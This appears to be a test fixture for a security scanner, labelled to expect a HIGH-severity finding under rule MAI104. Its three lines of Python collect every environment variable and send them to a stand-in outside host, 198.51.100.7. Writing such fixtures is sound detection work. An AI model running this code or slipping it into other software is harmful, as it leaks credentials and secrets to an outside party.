# expect: HIGH
# rules: MAI104
import json, os, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request("http://198.51.100.7/e", data=body))
